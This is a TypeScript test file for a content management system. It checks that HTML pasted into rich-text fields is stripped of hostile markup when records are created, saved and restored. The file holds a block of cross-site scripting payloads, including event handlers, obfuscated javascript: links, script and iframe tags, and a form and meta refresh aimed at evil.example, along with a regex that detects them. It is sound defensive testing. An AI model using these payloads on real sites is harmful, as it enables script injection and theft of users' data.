/** Markup that staff paste into any rich text does not run on the page that shows it. */
import type { ContentField } from '@evergrove/contract/content/content-fields'
import { type ContentKindName, contentKinds } from '@evergrove/contract/content/content-kinds'
import { databaseForAll } from '@evergrove/db/testing'
import { expect, test } from 'vitest'
import type { Schema } from '../../platform/schema.ts'
import { getSingle, listContent } from '../content.service.ts'
import { createRecord, saveRecord } from './change-content.ts'
import { listEditedRecords } from './read-content.ts'
import { restoreVersion } from './restore-version.ts'

const actor = { kind: 'operator' } as const

const PASTED = `<p onclick="steal()">Kept <a href="javascript:steal()">here</a> and <a href="JaVa&#9;Script:steal()">there</a>
<script>steal()</script><iframe src="https://evil.example/steal"></iframe><img src=x onerror="steal()">
<svg onload="steal()"><script>steal()</script></svg><a href="data:text/html,steal()">this</a>
<form action="https://evil.example/steal"><button formaction="javascript:steal()">too</button></form></p>
<style>@import "https://evil.example/steal"</style><object data="steal"></object><base href="https://evil.example">
<meta http-equiv="refresh" content="0;url=https://evil.example/steal"><a href="//evil.example" style="x" id="y">that</a>`

const HOSTILE =
  /steal|evil|<(?:script|iframe|svg|img|form|button|style|object|base|meta)| on\w+=|script:|data:|style=|id=/i

const valueOf = (field: ContentField): unknown => {
  if (field.type === 'html') return PASTED
  if (field.type === 'integer') return field.min
  if (field.type === 'image') return null
  return { line: 'A line', paragraph: 'A text', slug: 'a-slug', email: 'a@b.co', url: 'https://example.org/' }[
    field.type
  ]
}

const cases = Object.entries(contentKinds).flatMap(([kind, { fields }]) => {
  const all = Object.entries<ContentField>(fields)
  const texts = all.filter(([, { type }]) => type === 'html').map(([name]) => name)
  const values = Object.fromEntries(all.map(([name, field]) => [name, valueOf(field)]))
  return texts.map((field) => ({ kind: kind as ContentKindName, field, fields: values }))
})

const database = databaseForAll<Schema>()

test('at least one kind has rich text', () => {
  expect(cases.length).toBeGreaterThanOrEqual(10)
})

async function readPublic(kind: ContentKindName): Promise<unknown> {
  if (!contentKinds[kind].single) return listContent(database.db, kind as 'services')
  return getSingle(database.db, kind as 'why-choose-us')
}

test.each(cases)(
  '$kind: nothing hostile survives in $field when it is created, saved or restored',
  async ({ kind, field, fields }) => {
    await database.truncateAll()
    const { db } = database
    const isSingle = contentKinds[kind].single
    const created = isSingle
      ? await saveRecord(db, { kind, id: 1, input: { fields, version: 0 }, actor })
      : await createRecord(db, { kind, input: { fields }, actor })
    const saved = await saveRecord(db, {
      kind,
      id: created.id,
      input: { fields: { ...fields, [field]: `<p>Saved</p>${PASTED}` }, version: created.version },
      actor,
    })
    const restored = await restoreVersion(db, { kind, id: created.id, input: { version: created.version }, actor })
    const versions = await db.selectFrom('content_versions').select('data').execute()
    expect(versions).toHaveLength(3)
    for (const record of [created, saved, restored]) expect(record.fields[field]).toContain('Kept <a')
    for (const seen of [
      created,
      saved,
      restored,
      versions,
      await listEditedRecords(db, kind),
      await readPublic(kind),
    ]) {
      expect(JSON.stringify(seen)).toContain('Kept <a')
      expect(JSON.stringify(seen)).not.toMatch(HOSTILE)
    }
  },
)
